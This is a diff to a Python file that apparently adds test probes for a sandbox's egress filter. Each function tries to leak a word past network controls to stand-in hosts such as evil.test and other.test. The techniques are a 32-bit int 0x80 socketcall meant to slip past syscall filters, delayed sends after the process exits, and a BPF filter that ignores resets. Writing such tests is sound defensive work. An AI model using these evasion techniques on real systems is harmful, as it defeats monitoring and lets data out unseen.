@@ -3,6 +3,7 @@
 import array
 import ctypes
 import errno
+import mmap
 import os
 import socket
 import struct
@@ -335,6 +336,19 @@ def member(word):
     time.sleep(0.8)
 
 
+def member32(word):
+    """The same by a 32-bit program's call (socketcall by int 0x80), whose arguments lie behind a pointer that no filter follows."""
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    name = next(n for _, n in socket.if_nameindex() if n != "lo")
+    low = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, prot=7)  # MAP_32BIT
+    at = ctypes.addressof(ctypes.c_char.from_buffer(low))
+    low[0:14] = bytes.fromhex("53 b866000000 89fb 89f1 cd80 5b c3")  # push rbx; mov eax, 102; ebx, edi; ecx, esi; int 0x80; pop rbx; ret
+    low[256:268] = socket.inet_aton("232.1.1.1") + interface(0x8915, name)[20:24] + bytes.fromhex(word[-8:])
+    low[512:532] = struct.pack("5I", sock.fileno(), socket.IPPROTO_IP, 39, at + 256, 12)
+    print(ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_uint, ctypes.c_uint)(at)(14, at + 512))
+    time.sleep(0.8)
+
+
 def keys(word):
     libc = ctypes.CDLL(None, use_errno=True)
     libc.syscall(249, b"dns_resolver", word.encode() + b".evil.test", b"", -3)  # request_key
@@ -349,6 +363,31 @@ def then_elsewhere(word):
     wait(sock)
     for _ in range(3):
         sock.sendto(word.encode(), ("198.18.3.66", 9999))
+
+
+def after(word):
+    """Requests for the allowed name, then one for another, which the kernel keeps back for two seconds and more (SO_MAX_PACING_RATE,
+    which begins with the tenth segment); the process ends at once.  Bound to its interface, the socket is not found by its addresses."""
+    interface = next(name for _, name in socket.if_nameindex() if name != "lo")
+    sock = socket.socket()
+    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode() + b"\0")
+    sock.connect((socket.getaddrinfo("allowed.test", 80, socket.AF_INET)[0][4][0], 80))
+    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    for turn in range(15):
+        if turn == 14:
+            sock.setsockopt(socket.SOL_SOCKET, 47, 40)
+        sock.send(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
+        sock.recv(4096)
+    sock.send(f"GET /{word} HTTP/1.1\r\nHost: other.test\r\n\r\n".encode())
+
+
+def deaf(word):
+    """A request for another name on a connection that does not heed resets (SO_ATTACH_FILTER); the process ends, its socket goes on."""
+    sock = socket.create_connection(socket.getaddrinfo("allowed.test", 80, socket.AF_INET)[0][4])
+    code = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", *line) for line in (
+        (0x30, 0, 0, 13), (0x45, 0, 1, 4), (6, 0, 0, 0), (6, 0, 0, 0xFFFFFFFF))))  # flags & RST: 0 bytes of it
+    sock.setsockopt(socket.SOL_SOCKET, 26, struct.pack("HxxxxxxP", 4, ctypes.addressof(code)))
+    sock.send(f"GET /{word} HTTP/1.1\r\nHost: other.test\r\n\r\n".encode())
 
 
 def uring(address, port, word):
